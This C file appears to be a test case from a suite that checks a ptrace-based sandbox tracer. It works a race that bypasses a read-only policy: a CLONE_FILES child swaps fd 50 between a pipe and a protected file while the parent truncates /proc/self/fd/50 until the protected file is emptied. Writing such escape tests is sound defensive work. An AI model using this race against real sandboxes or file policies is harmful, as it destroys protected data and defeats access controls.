/*
 * Vectors 1 and 3: esc_proc_fd_reopen_race with truncate(2), a path call
 * (anchored names skip /proc paths: tracer/anchor.c), so a fix that checks
 * what an open returned does not cover it. A pipe's fd link is judged by
 * the link's name (there is no file to judge; default.yaml lets
 * /proc/self/fd/N be written, as `echo x >/dev/stdout` does), and the
 * kernel follows the link again when it walks the name. A clone(CLONE_FILES) child (our fd table, not our memory)
 * flips fd 50 between a pipe's write end and a read-only fd of
 * protected/victim.txt (which the policy lets us read, not write) with
 * dup2, while we truncate /proc/self/fd/50 for 5 s: the kernel follows
 * the link to whatever fd 50 is then, and truncates by the inode's
 * permissions, not the fd's mode.
 * Policy esc_proc_fd_truncate_race.yaml: protected/victim.txt read-only, and
 * default.yaml's allow-terminal-devices rule.
 * success = victim.txt was emptied.
 * expect: ptrace_file
 * expect-match: victim.txt
 */
#include "esc.h"
#include <sched.h>
#include <signal.h>

int main(void)
{
	const char *victim = esc_fmt("%s/victim.txt", esc_protected());
	long tries = 0;
	int p[2], ro, keep;
	pid_t flipper;
	const char *name;

	ro = open(victim, O_RDONLY);
	if (ro < 0)
		esc_broken("open %s read-only: %s", victim, strerror(errno));
	if (pipe(p) < 0)
		esc_broken("pipe: %s", strerror(errno));
	keep = p[0]; /* a reader, so an open of the write end never blocks */
	flipper = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, NULL, NULL, 0);
	if (flipper < 0)
		esc_broken("fork: %s", strerror(errno));
	if (flipper == 0)
		for (;;) {
			dup2(p[1], 50);
			dup2(ro, 50);
		}
	name = "/proc/self/fd/50";
	for (double end = esc_now() + esc_race_seconds(); esc_now() < end; tries++) {
		struct stat st;

		truncate(name, 0);
		if (stat(victim, &st) == 0 && st.st_size == 0) {
			kill(flipper, SIGKILL);
			esc_success("truncate(%s) emptied protected/victim.txt after %ld tries", name,
				    tries);
		}
	}
	kill(flipper, SIGKILL);
	esc_wait(flipper);
	(void)keep;
	esc_blocked("protected/victim.txt kept its size in %ld tries", tries);
}
